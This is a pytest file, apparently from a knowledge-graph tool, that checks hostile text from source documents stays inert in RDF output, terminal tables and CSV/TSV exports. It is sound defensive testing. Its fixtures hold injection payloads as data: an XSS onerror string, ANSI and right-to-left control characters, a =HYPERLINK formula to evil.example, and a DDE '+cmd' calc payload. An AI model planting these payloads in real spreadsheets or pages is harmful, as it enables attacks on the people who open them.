"""Hostile text in a document stays text: in RDF, in the terminal, in queries."""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path

import pytest
from builders import QUANTITY, disclosure, project
from click.testing import CliRunner

from kg.build import load_inputs, write_graph
from kg.cli import cli
from kg.output import Rows, render_table
from kg.rdf.rdfio import read_rdf
from kg.read.indicators import clean_name

HOSTILE = '<img src=x onerror=alert(1)>"""\\\'; DROP\u202e\x1b[31m红'


@pytest.fixture()
def hostile_doc(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.txt"
    path.write_text(disclosure([project("11010522T000000000001", HOSTILE, "1.000000\t1.000000", HOSTILE, QUANTITY)]), encoding="utf-8")
    return path


@pytest.mark.parametrize("ext", ["ttl", "nt", "jsonld", "trig", "nq"])
def test_hostile_names_round_trip_exactly_through_every_format(tmp_path: Path, hostile_doc: Path, ext: str) -> None:
    out = tmp_path / f"g.{ext}"
    write_graph(load_inputs([hostile_doc]).quads, [out])
    labels = {o.value for s, p, o, _ in read_rdf(out) if p.endswith("#label") and s.endswith("000000000001")}
    goals = {o.value for s, p, o, _ in read_rdf(out) if p.endswith("#goal") and s.endswith("000000000001")}
    assert labels == {clean_name(HOSTILE)} and goals == {HOSTILE}
    if ext in ("ttl", "nt", "trig", "nq"):
        syntax = {"ttl": "turtle", "nt": "ntriples", "trig": "trig", "nq": "nquads"}[ext]
        assert subprocess.run(["rapper", "-q", "-i", syntax, "-c", str(out)], capture_output=True).returncode == 0


def test_terminal_output_escapes_control_characters() -> None:
    table = render_table(Rows(["name"], [[HOSTILE]]))
    assert "\x1b" not in table and "\u202e" not in table
    assert "\\x1b[31m" in table and "\\u202e" in table


def test_query_table_escapes_control_characters(hostile_doc: Path) -> None:
    out = CliRunner().invoke(cli, ["query", "projects", "--data", str(hostile_doc)]).output
    assert "\x1b" not in out and "\\x1b" in out


FORMULA = '=HYPERLINK("http://evil.example/?x","click")公益'


@pytest.mark.parametrize("command", [["query", "projects"], ["trace"]])
def test_csv_output_keeps_a_documents_formula_as_text(tmp_path: Path, command: list[str]) -> None:
    """A name a spreadsheet would run as a formula (=HYPERLINK(…), from the document) begins with an
    apostrophe in the CSV a user opens in Excel or WPS; amounts and other cells stay as they are."""
    path = tmp_path / "formula.txt"
    path.write_text(disclosure([project("11010522T000000000001", FORMULA, "1.000000\t1.000000", "+cmd|' /C calc'!A0", QUANTITY)]),
                    encoding="utf-8")
    result = CliRunner().invoke(cli, [*command, *(["--data"] if command[0] == "query" else []), str(path), "-f", "csv"])
    cells = [cell for row in csv.reader(io.StringIO(result.output)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
    assert any(c.startswith("'=HYPERLINK(") for c in cells)


def test_csv_and_tsv_escape_control_characters(hostile_doc: Path) -> None:
    for fmt in ("csv", "tsv"):
        out = CliRunner().invoke(cli, ["query", "projects", "--data", str(hostile_doc), "-f", fmt]).output
        assert "\x1b" not in out and "\u202e" not in out and "1B" in out.upper(), fmt


def test_a_cell_is_left_as_it_is_only_when_it_is_a_number() -> None:
    from kg.output import spreadsheet_safe

    assert [spreadsheet_safe(t) for t in ("-5", "+3.2", "-.5", "-1.5e3", "-12,000.5%", "-", "≥95%")] == [
        "-5", "+3.2", "-.5", "-1.5e3", "-12,000.5%", "-", "≥95%"]
    # no digit, no number: -E5 is the formula =-E5 to Excel
    assert [spreadsheet_safe(t) for t in ("-E5", "+e9", "-%", "=1", "@A1")] == ["'-E5", "'+e9", "'-%", "'=1", "'@A1"]
